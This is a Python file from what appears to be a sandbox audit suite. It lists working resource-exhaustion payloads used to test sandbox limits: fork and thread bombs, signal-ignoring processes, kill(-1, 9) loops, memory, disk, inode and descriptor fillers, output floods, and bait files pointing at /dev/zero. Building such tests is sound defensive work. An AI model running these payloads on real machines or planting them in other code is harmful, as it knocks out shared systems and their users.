"""Exhausting resources or never ending, to harm the sandbox's machine, its runner and its neighbours."""

from __future__ import annotations

from forge_env.sandbox.spec import Limits
from forge_env.sandbox_audit.attacks.attack import Attack

_DEAF = "import os, signal, time\nfor s in set(range(1, 32)) - {9, 17, 19}: signal.signal(s, signal.SIG_IGN)\n"

PROCESSES = (
    Attack("fork bomb", "starvation", "Fork without end, in new sessions, ignoring signals.", _DEAF + """\
while True:
    try:
        if os.fork() == 0: os.setsid()
    except OSError: pass
"""),
    Attack("fork bomb with a high limit", "starvation", "Fork without end, with hundreds of processes allowed.", """\
import os
while True:
    try: os.fork()
    except OSError: pass
""", limits=Limits(wall_s=0.8, memory_mb=256, processes=256)),
    Attack("thread bomb", "starvation", "Start threads without end.", """\
import threading, time
while True:
    try: threading.Thread(target=time.sleep, args=(30,)).start()
    except RuntimeError: pass
"""),
    Attack("hot potato", "starvation",
           "Continue in a new process all the time, so that no process lives long enough to be killed.", _DEAF + """\
while True:
    try:
        if os.fork(): os._exit(0)
        os.setsid()
    except OSError: pass
"""),
    Attack("zombies", "starvation", "Accumulate zombies by never waiting for children.", """\
import os
while True:
    try:
        if os.fork() == 0: os._exit(0)
    except OSError: pass
"""),
    Attack("ignores signals", "starvation", "Sleep beyond the limit, ignoring signals.", _DEAF + "time.sleep(60)\n"),
    Attack("stops itself", "starvation", "Stop itself with SIGSTOP, so that its end is never seen.",
           "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)\n"),
    Attack("kills everyone", "starvation", "Kill every process in sight.", "import os; os.kill(-1, 9)\n"),
    Attack("kills without pause", "starvation",
           "Kill every process with its user id, its killer included.", """\
import ctypes, threading
kill = ctypes.CDLL(None).kill
def hit():
    while True: kill(-1, 9)
for _ in range(4): threading.Thread(target=hit).start()
"""),
    Attack("stops without pause", "starvation",
           "Stop every process with its user id, so that its killer never finishes.", """\
import ctypes, threading
kill = ctypes.CDLL(None).kill
def hit():
    while True: kill(-1, 19)
for _ in range(4): threading.Thread(target=hit).start()
"""),
    Attack("all signals to its parents", "starvation", "Send every signal to the runner and to the init.", """\
import os, time
for p in (os.getppid(), 1, 2, 3, 4, 5, 6, 7, 8):
    for s in range(1, 65):
        try:
            if p != os.getpid(): os.kill(p, s)
        except OSError: pass
time.sleep(0.1)
"""),
    Attack("burns all processors", "starvation",
           "Compute in sixteen processes, ignoring the signal of the CPU limit.", _DEAF + """\
for _ in range(4): os.fork()
while True: pass
""", limits=Limits(wall_s=0.5, cpu_s=1)),
    Attack("holds the interpreter", "starvation", "Compute one huge number, which handles no signals.",
           "10 ** 10 ** 9\n"),
    Attack("backtracks", "starvation", "Match a pattern that takes for ever.",
           "import re; re.match('(a*)*b', 'a' * 60)\n"),
    Attack("re-executes itself", "starvation", "Execute itself again and again.", """\
import os
open('x.py', 'w').write('import os, sys; os.execv(sys.executable, [sys.executable, __file__])')
os.execv('/usr/bin/python3', ['python3', 'x.py'])
"""),
    Attack("segfault", "starvation", "Crash the interpreter.", "import ctypes; ctypes.string_at(0)\n"),
    Attack("runs out of stack", "starvation", "Recurse until the stack is gone.", """\
import sys
sys.setrecursionlimit(10 ** 9)
class A:
    def __getattr__(s, n): return getattr(s, n + 'x'[:0])
A().x
"""),
    Attack("holds its output open", "starvation", "Leave its output with a process that never ends.", """\
import os, time
if os.fork() == 0:
    os.setsid(); time.sleep(60)
print('done')
"""),
)  # fmt: skip

MEMORY = (
    Attack("memory bomb", "starvation", "Take all memory in one process.", """\
x = []
while True: x.append(bytearray(10 << 20))
"""),
    Attack("memory bomb in many processes", "starvation", "Take all memory in thirty processes.", """\
import os, time
for i in range(30):
    try:
        if os.fork() == 0:
            x = bytearray(100 << 20)
            time.sleep(30)
    except OSError: pass
time.sleep(30)
"""),
    Attack("unowned memory", "starvation",
           "Fill shared memory, drop its pages without freeing them, and steer the OOM killer to other processes.", """\
import mmap, os, time
try: open('/proc/self/oom_score_adj', 'w').write('0')
except OSError: pass
for _ in range(3):
    if os.fork() == 0:
        shared = mmap.mmap(-1, 400 << 20)
        for offset in range(0, 400 << 20, 1 << 20):
            shared[offset : offset + (1 << 20)] = bytes(1 << 20)
            shared.madvise(mmap.MADV_DONTNEED)
        time.sleep(30)
time.sleep(30)
""", limits=Limits(wall_s=2.0)),
    Attack("files in memory", "starvation", "Keep data in files that exist in memory only.", """\
import os, time
for n in range(100):
    try: fd = os.memfd_create('x')
    except OSError: break
    for _ in range(15): os.write(fd, bytes(1 << 20))
else:
    print('LEAK', n)
"""),
    Attack("fills the disk", "starvation", "Fill the disk.", """\
f = open('/tmp/big', 'wb')
while True: f.write(b'x' * (1 << 20))
"""),
    Attack("fills every folder", "starvation", "Fill everything writable with files of the largest size.", """\
for folder in ('.', '/tmp', '/dev/shm', '/var/tmp', '/dev/mqueue', '/run'):
    for n in range(99):
        try:
            with open(f'{folder}/{n}', 'wb') as file:
                for _ in range(15): file.write(bytes(1 << 20))
        except OSError: break
"""),
    Attack("fills the inodes", "starvation", "Use up all inodes.", """\
for n in range(100000):
    try: open(f'/dev/shm/{n}', 'w').close()
    except OSError: break
"""),
    Attack("endless attributes", "starvation", "Accumulate file attributes, which have no size limit.", """\
import os
open('f', 'w').close()
for n in range(5000):
    for path in ('f', '.'):
        try: os.setxattr(path, f'user.{n}', bytes(60000))
        except OSError: pass
"""),
    Attack("descriptors", "starvation", "Use up all descriptors, in as many processes as it may have.", """\
import os, time
for _ in range(5): os.fork()
try:
    while True: os.pipe()
except OSError: time.sleep(30)
"""),
    Attack("full pipes and sockets", "starvation", "Keep data in the kernel's buffers.", """\
import os, socket, time
for _ in range(4): os.fork()
kept = []
try:
    while True:
        for end, _ in (kept.append(socket.socketpair()) or kept[-1],):
            end.setblocking(False)
            try:
                while True: end.send(bytes(65536))
            except BlockingIOError: pass
except OSError: time.sleep(30)
"""),
    Attack("timers and signals", "starvation", "Accumulate timers and queued signals.", """\
import ctypes, os, time
libc, number = ctypes.CDLL(None), ctypes.c_void_p()
for n in range(200000):
    libc.timer_create(1, None, ctypes.byref(number))
    if n % 100 == 0: libc.sigqueue(os.getpid(), 40, None)
"""),
    Attack("output flood", "starvation", "Flood the engine with output.", """\
import os
while True: os.write(1, b'y' * 65536)
"""),
    Attack("floods both streams", "starvation", "Write to both streams from eight processes.", """\
import os
for _ in range(3): os.fork()
while True: os.write(1, b'y' * 65536); os.write(2, b'\\xff\\0' * 9999)
"""),
    Attack("pipe for the engine", "starvation", "Make the engine wait for a pipe.",
           "import os; os.mkfifo('bait')\n", bait=True),
    Attack("endless file for the engine", "starvation", "Make the engine read a device without end.",
           "import os; os.symlink('/dev/zero', 'bait')\n", bait=True),
    Attack("huge file for the engine", "starvation", "Make the engine read a file of many GB that takes no space.", """\
import os
for n in range(60, 20, -1):
    try: os.truncate(os.open('bait', os.O_CREAT | os.O_RDWR), 1 << n)
    except OSError: pass
    else: break
""", limits=Limits(wall_s=0.5, file_size_mb=1048576), bait=True),
)  # fmt: skip
